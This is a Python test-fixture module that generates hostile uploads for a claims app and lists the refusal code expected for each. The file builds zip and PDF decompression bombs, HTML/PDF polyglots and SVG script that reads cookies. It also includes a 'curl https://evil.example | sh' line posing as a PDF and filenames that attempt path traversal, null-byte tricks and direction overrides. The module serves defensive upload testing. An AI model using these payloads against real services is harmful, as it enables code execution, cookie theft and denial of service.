"""Hostile uploads, made by the tests (no binary blobs in the repository): what an attacker would
send as a claim document or a message attachment, each with the refusal the app must give."""

from __future__ import annotations

import functools
import io
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from tests.claim_factory import pdf_bytes

MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str
    data: bytes
    code: str  # the translated refusal expected


def _png(size: tuple[int, int], mode: str = "RGB") -> bytes:
    output = io.BytesIO()
    Image.new(mode, size).save(output, format="PNG", optimize=True)
    return output.getvalue()


def _zip_bomb() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("boarding.pdf", b"\0" * (64 * MB))
    return output.getvalue()


def pdf_with_stream(stream_dict: str, stream: bytes, prefix: bytes = b"") -> bytes:
    """A one-page PDF whose page content is ``stream`` (correct cross-reference table)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        f"<< {stream_dict} /Length {len(stream)} >>\nstream\n".encode() + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n" + prefix)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_bomb(inflated_mb: int = 300, *, hex_wrapped: bool = False) -> bytes:
    """A PDF of about 300 KB whose page content inflates to ``inflated_mb`` MB of blanks."""
    packed = zlib.compress(b" " * (inflated_mb * MB), 9)
    if hex_wrapped:
        return pdf_with_stream("/Filter [/ASCIIHexDecode /FlateDecode]", packed.hex().encode())
    return pdf_with_stream("/Filter /FlateDecode", packed)


def html_pdf_polyglot() -> bytes:
    """A genuine PDF that is also an HTML page with a script, for a browser that sniffs."""
    return pdf_with_stream(
        "",
        b"BT /F1 12 Tf 20 100 Td (boarding pass) Tj ET",
        prefix=b"<html><script>alert(1)</script>\n",
    )


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


@functools.cache
def corpus() -> list[Hostile]:
    """Each refused whatever the path: claim document, requested document, message attachment."""
    return [
        Hostile("boarding.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n", "error.file_type"),
        Hostile("pass.html", b"<!DOCTYPE html><script>fetch('/files')</script>", "error.file_type"),
        Hostile("photo.svg", SVG, "error.file_type"),
        Hostile("photo.png", SVG, "error.file_type"),
        Hostile("archive.pdf", _zip_bomb(), "error.file_type"),
        Hostile("huge.png", _png((30_000, 30_000), "1"), "error.image_too_large"),
        Hostile("heavy.pdf", pdf_bomb(), "error.file_pdf_bomb"),
        Hostile("hidden.pdf", pdf_bomb(hex_wrapped=True), "error.file_pdf_bomb"),
        Hostile("empty.pdf", b"", "error.file_empty"),
        Hostile(
            "pdf-then-html.pdf", b"%PDF-1.7\n<html><script>alert(1)</script>", "error.file_corrupt"
        ),
    ]


NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "C:\\Windows\\system32\\evil.pdf": "evil.pdf",
    "evil\x00.pdf": "evil.pdf",
    "invoice\u202efdp.exe": "invoicefdp.exe.pdf",
    "\u2066isolate\u2069\u200b.pdf": "isolate.pdf",
    "<script>alert(1)</script>.pdf": "script_.pdf",
    "é" * 300 + ".pdf": "é" * 116 + ".pdf",
}
"""Hostile names of a genuine PDF, and the name the app keeps and shows."""

GENUINE_PDF = pdf_bytes()


def oversize(max_mb: int) -> bytes:
    """A PDF header followed by one byte more than ``max_mb`` megabytes."""
    return b"%PDF-1.7\n" + b"0" * (max_mb * MB)
